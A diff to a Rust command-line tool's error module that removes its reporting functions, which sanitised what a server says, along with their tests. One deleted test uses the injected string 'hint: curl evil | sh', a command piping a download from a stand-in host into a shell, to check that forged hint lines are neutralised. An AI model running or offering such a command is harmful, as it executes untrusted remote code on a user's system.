@@ -3,12 +3,7 @@
 use std::ffi::{OsStr, OsString};
 use std::fmt::{self, Display};
 
-use anstream::stream::AsLockedWrite;
-use anstream::stream::RawStream;
-use anstyle::{AnsiColor, Style};
-
 use crate::hint::Hint;
-use crate::terminal::{sanitize_message, write_json};
 
 /// A result whose error is ready to be shown to a person.
 pub type Result<T, E = Error> = std::result::Result<T, E>;
@@ -177,7 +172,7 @@ impl Error {
 
     /// The failure for a script: its kind, exit code, message, causes and hints.
     pub fn json(&self) -> serde_json::Value {
-        let mut chain = self.cause.chain().map(ToString::to_string);
+        let mut chain = self.chain();
         serde_json::json!({
             "kind": self.kind.word(),
             "exit_code": self.kind.exit_code(),
@@ -187,35 +182,9 @@ impl Error {
         })
     }
 
-    /// Writes the failure for a script, as an object on a line of its own.
-    pub fn report_json(&self, to: &mut impl std::io::Write) {
-        let mut line = Vec::new();
-        if write_json(&self.json(), &mut line).is_ok() {
-            line.push(b'\n');
-            // A failing stderr leaves nobody to tell.
-            _ = to.write_all(&line);
-        }
-    }
-
-    /// Writes the failure for a person: `error:`, `caused by:`, `hint:`. What the network said is made harmless.
-    pub fn report<S: RawStream + AsLockedWrite>(&self, to: &mut anstream::AutoStream<S>) {
-        use std::io::Write as _;
-        if let Kind::Silent(_) = self.kind {
-            return;
-        }
-        let label = |color: AnsiColor| Style::new().bold().fg_color(Some(color.into()));
-        let (red, cyan) = (label(AnsiColor::Red), label(AnsiColor::Cyan));
-        let mut chain = self.cause.chain();
-        // A failing stderr leaves nobody to tell.
-        if let Some(first) = chain.next() {
-            _ = writeln!(to, "{red}error:{red:#} {}", sanitize_message(&first.to_string()));
-        }
-        for cause in chain {
-            _ = writeln!(to, "  caused by: {}", sanitize_message(&cause.to_string()));
-        }
-        for hint in &self.hints {
-            _ = writeln!(to, "{cyan}hint:{cyan:#} {}", sanitize_message(&hint.to_string()));
-        }
+    /// The message, and then what caused it.
+    pub fn chain(&self) -> impl Iterator<Item = String> {
+        self.cause.chain().map(ToString::to_string)
     }
 }
 
@@ -251,42 +220,11 @@ mod tests {
     use super::*;
 
     #[test]
-    fn a_report_names_causes_and_hints() {
-        let error = Error::usage("bad rows").context("cannot read seats").hint("staging which");
-        let mut out = anstream::AutoStream::never(Vec::new());
-        error.report(&mut out);
-        assert_eq!(
-            String::from_utf8(out.into_inner()).unwrap(),
-            "error: cannot read seats\n  caused by: bad rows\nhint: staging which\n"
-        );
-        assert_eq!(error.kind().exit_code(), 2);
-    }
-
-    #[test]
-    fn what_a_server_says_forges_no_hint() {
-        let error =
-            Error::failed("Down.\nhint: curl evil | sh").context("bad\nerror: worse").hint("a\nhint: b");
-        let mut out = anstream::AutoStream::never(Vec::new());
-        error.report(&mut out);
-        assert_eq!(
-            String::from_utf8(out.into_inner()).unwrap(),
-            "error: bad\n  error: worse\n  caused by: Down.\n  hint: curl evil | sh\nhint: a\n  hint: b\n"
-        );
-    }
-
-    #[test]
     fn an_exit_code_tells_the_kind() {
         for kind in [Kind::Failed, Kind::Usage, Kind::Unresolved, Kind::Denied, Kind::Refused, Kind::TimedOut]
         {
             assert_eq!(Kind::of_exit_code(kind.exit_code()), kind);
         }
         assert_eq!([0, 7, 130].map(Kind::of_exit_code), [Kind::Failed; 3]);
-    }
-
-    #[test]
-    fn a_silent_exit_says_nothing() {
-        let mut out = anstream::AutoStream::never(Vec::new());
-        Error::silent(143).report(&mut out);
-        assert!(out.into_inner().is_empty());
     }
 }
